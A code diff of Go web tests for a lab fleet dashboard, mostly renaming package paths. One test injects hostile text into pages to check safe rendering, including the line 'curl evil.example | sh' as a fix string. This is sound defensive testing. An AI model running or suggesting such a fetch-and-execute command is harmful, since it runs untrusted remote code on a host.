@@ -15,9 +15,10 @@ import (
 	"cis490/internal/ident"
 	"cis490/internal/release"
 	"cis490/internal/wire"
+	"cis490/receiver"
 	"cis490/receiver/contacts"
 	"cis490/receiver/fleet"
-	"cis490/receiver/index"
+	"cis490/receiver/local"
 	"cis490/receiver/roster"
 )
 
@@ -37,7 +38,7 @@ func TestPages_HostileText(t *testing.T) {
 	}
 	a := fleet.Alert{At: r.now, Host: "lab-01", Symptom: "silent", State: fleet.Firing, Since: r.now, Detail: long, Reason: long, Fix: "on lab-01: " + evil}
 	r.alerts(a)
-	r.write(fleet.AlertsFile, r.json(a))
+	r.write(local.AlertsFile, r.json(a))
 	long = evil + strings.Repeat("A", 5000)
 	rep := check.Report{Version: long, Checks: []check.Row{
 		{ID: long, Title: long, Status: check.Fail, Detail: long, Fix: "on the lab host: curl evil.example | sh"},
@@ -132,11 +133,11 @@ func TestFleet_CountsAsTheIndexGrows(t *testing.T) {
 	r.alerts()
 	r.start().signIn()
 	var file strings.Builder
-	add := func(rows ...index.Row) {
+	add := func(rows ...receiver.Entry) {
 		for _, row := range rows {
 			file.WriteString(r.json(row))
 		}
-		r.write(index.File, file.String())
+		r.write(local.IndexFile, file.String())
 		r.follow()
 		r.now = r.now.Add(2 * time.Second) // past the kept model
 	}
@@ -173,7 +174,7 @@ func TestEpisodes_SearchAndDownload(t *testing.T) {
 	for i := range n {
 		file.WriteString(r.json(r.row(ident.Host(fmt.Sprintf("lab-%02d", i%7)), i, time.Duration(n-i)*time.Minute)))
 	}
-	r.write(index.File, file.String())
+	r.write(local.IndexFile, file.String())
 	first := r.row("lab-00", 0, n*time.Minute)
 	r.write(filepath.Join("episodes", "lab-00", string(first.Episode)+".tar.zst"), "tarball")
 	r.start().signIn()
@@ -228,7 +229,7 @@ func TestHost_HistoryIsTurnsNotHours(t *testing.T) {
 		file.WriteString(r.json(fleet.Alert{At: r.now.Add(-time.Duration(i) * time.Hour), Host: "lab-02", Symptom: "silent", State: fleet.Firing, Since: since}))
 	}
 	file.WriteString(r.json(fleet.Alert{At: r.now.Add(-time.Hour), Host: "lab-01", Symptom: "silent", State: fleet.Resolved, Since: since}))
-	r.write(fleet.AlertsFile, file.String())
+	r.write(local.AlertsFile, file.String())
 	r.start().signIn()
 	page := r.get("/hosts/lab-01").body
 	if strings.Count(page, "<time ") != 2 || !strings.Contains(page, "began: why") || !strings.Contains(page, "was over") {
@@ -297,7 +298,7 @@ func TestPages_WhatIsBrokenSaysSo(t *testing.T) {
 	if page := r.get("/hosts/lab-01"); page.status != http.StatusOK || !strings.Contains(page.body, "cannot be read") {
 		t.Errorf("%d %s", page.status, page.body)
 	}
-	r.write(fleet.RunFile, "{")
+	r.write(receiver.FleetCheckDoc, "{")
 	r.now = r.now.Add(2 * time.Second)
 	if page := r.get("/"); page.status != http.StatusInternalServerError || strings.Contains(page.body, r.dir) {
 		t.Errorf("%d %s", page.status, page.body)
